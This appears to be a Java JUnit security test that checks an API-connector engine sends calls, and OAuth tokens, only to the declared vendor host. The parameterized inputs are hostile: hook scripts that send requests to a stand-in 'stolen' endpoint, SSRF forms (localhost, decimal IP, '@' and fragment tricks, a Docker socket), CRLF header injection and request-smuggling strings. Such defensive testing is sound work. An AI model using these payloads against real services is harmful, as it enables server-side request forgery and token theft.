package dev.valence.engine;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.valence.engine.TestVendor.Reply;
import dev.valence.model.ApiException;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A call of an instance leaves to the hosts that its element declares and to no other, whoever
 * wants it otherwise: the caller, the configuration, the vendor, or a hook. Another server listens
 * where each of them would lead, and sees nothing, least of all a token.
 */
class ProviderPinningTest extends DeclaredTest {

  private final TestVendor elsewhere = new TestVendor();

  @AfterEach
  void stopElsewhere() {
    elsewhere.close();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "done({request_vendor_url: '$E/stolen'});",
        "done({request_vendor_path: '$E/stolen'});",
        "done({request_vendor_path: '@$A/stolen', request_vendor_url: null});",
        "done({request_vendor_url: '$V@$A/stolen'});",
        "done({request_vendor_url: 'http://$A#$V/stolen'});",
        "done({request_vendor_url: 'http://$A\\\\\\\\@$V/stolen'});",
        "done({request_vendor_headers: {Host: '$A'}});",
        "done({request_vendor_headers: {host: '$A', Connection: 'close'}});",
        "done({request_vendor_headers: {'Transfer-Encoding': 'chunked'}});",
        "done({request_vendor_headers: {'Content-Length': '0'}});",
        "done({request_vendor_headers: {'X-A': 'a\\\\r\\\\nHost: $A'}});",
        "done({request_vendor_headers: {'X-A\\\\r\\\\nHost': '$A'}});",
        "done({request_vendor_method: 'GET $E/ HTTP/1.1\\\\r\\\\nX: y\\\\r\\\\n\\\\r\\\\nGET'});",
        "done({request_vendor_method: 'CONNECT'});",
        "require('http').get('$E/stolen', r => done()).on('error', e => done({error: 1}));",
        "require('https').get('https://$A/stolen', r => done()).on('error', e => done());",
        "require('http').get('http://localhost:$P/', r => done()).on('error', e => done());",
        "require('http').get('http://0.0.0.0:$P/', r => done()).on('error', e => done());",
        "require('http').get('http://2130706433:$P/', r => done()).on('error', e => done());",
        "require('http').get('$V@$A/stolen', r => done()).on('error', e => done());",
        "require('http').request({host: '127.0.0.1', port: $P, path: '/stolen'}, r => done())"
            + ".on('error', e => done()).end();",
        "require('http').request({socketPath: '/var/run/docker.sock', path: '/'}, r => done())"
            + ".on('error', e => done()).end();",
        "require('http').get('$V/moved', r => done({x: r.statusCode})).on('error', e => done());",
      })
  void noHookLeadsElsewhere(String script) {
    vendor.answers = seen -> redirecting(seen.target());
    ObjectNode resource = resource();
    resource
        .withArrayProperty("hooks")
        .addObject()
        .put("type", "preRequest")
        .put("body", placed(script));
    attempt(instanceOf("oauth2", element(resource)));
    assertThat(elsewhere.seen()).isEmpty();
    assertThat(vendor.seen())
        .allSatisfy(seen -> assertThat(seen.headers().get("Host")).isEqualTo(vendor.authority()));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "$E/v1",
        "http://localhost:$P/v1",
        "http://0.0.0.0:$P",
        "http://2130706433:$P",
        "$V@$A/v1",
        "http://$A#",
        "http://$A?",
        "file:///etc",
        "https://$A"
      })
  void noConfigurationLeadsElsewhere(String baseUrl) {
    TestInstance instance = instanceOf("oauth2", element(resource()));
    instance.values().put("base.url", placed(baseUrl));
    attempt(instance);
    assertThat(elsewhere.seen()).isEmpty();
    assertThat(vendor.seen()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(ints = {301, 302, 303, 307, 308})
  void noRedirectLeadsElsewhere(int status) {
    for (String location : List.of("$E/stolen", "//$A/stolen", "http://localhost:$P/", "$V@$A/")) {
      vendor.answers = seen -> new Reply(status, Map.of("Location", placed(location)), "");
      attempt(instanceOf("oauth2", element(resource())));
    }
    assertThat(elsewhere.seen()).isEmpty();
    assertThat(vendor.seen()).hasSizeGreaterThanOrEqualTo(4);
  }

  /**
   * The vendor's own words for the next page are parameters of the same call, whatever they are.
   */
  @ParameterizedTest
  @ValueSource(strings = {"$E/things?page=2", "//$A/things", "http://localhost:$P/", "@$A/"})
  void noNextPageLeadsElsewhere(String next) {
    vendor.answers =
        seen -> Reply.json("{\"items\": [{\"id\": 1}], \"next\": \"" + placed(next) + "\"}");
    ObjectNode resource = resource().put("rootKey", "items").put("nextPageKey", "body.next");
    resource
        .withArrayProperty("parameters")
        .addObject()
        .put("name", "nextPage")
        .put("type", "query")
        .put("vendorName", "cursor")
        .put("vendorType", "query");
    TestInstance instance = instanceOf("oauth2", element(resource));
    HubAnswer first = get(instance, "/things");
    String token = first.next();
    if (token != null) {
      get(instance, "/things", "nextPage=" + token);
    }
    assertThat(elsewhere.seen()).isEmpty();
    assertThat(vendor.seen()).isNotEmpty();
  }

  /** A value of the caller's for a placeholder stays within the path. */
  @ParameterizedTest
  @ValueSource(
      strings = {"..%2F..%2F@$A", "@$A/stolen", "http://$A/stolen", "x%0d%0aHost: $A", "\r\nX: y"})
  void noParameterOfTheCallersLeadsElsewhere(String value) {
    ObjectNode resource = resource().put("vendorPath", "/things/{id}");
    resource.put("path", "/hubs/social/things/{id}");
    resource
        .withArrayProperty("parameters")
        .addObject()
        .put("name", "id")
        .put("type", "path")
        .put("vendorName", "id")
        .put("vendorType", "path");
    try {
      get(instanceOf("oauth2", element(resource)), "/things/" + placed(value));
    } catch (RuntimeException e) {
      assertThat(e).isInstanceOf(ApiException.class);
    }
    assertThat(elsewhere.seen()).isEmpty();
    assertThat(vendor.seen())
        .allSatisfy(seen -> assertThat(seen.target()).startsWith("/v1/things"));
  }

  private Reply redirecting(String target) {
    return target.startsWith("/moved")
        ? new Reply(302, Map.of("Location", elsewhere.url() + "/stolen"), "")
        : Reply.json("{}");
  }

  private void attempt(TestInstance instance) {
    try {
      get(instance, "/things");
    } catch (ApiException e) {
      assertThat(e.status()).isGreaterThanOrEqualTo(400);
    }
  }

  private String placed(String text) {
    String authority = elsewhere.authority();
    return text.replace("$E", elsewhere.url())
        .replace("$A", authority)
        .replace("$P", authority.substring(authority.indexOf(':') + 1))
        .replace("$V", vendor.url());
  }

  private static ObjectNode resource() {
    return TestVendor.JSON
        .createObjectNode()
        .put("method", "GET")
        .put("path", "/hubs/social/things")
        .put("vendorPath", "/things");
  }

  private static ObjectNode element(ObjectNode resource) {
    ObjectNode element = TestVendor.JSON.createObjectNode();
    element.withArrayProperty("resources").add(resource);
    element.putObject("authentication").put("type", "oauth2");
    return element;
  }
}
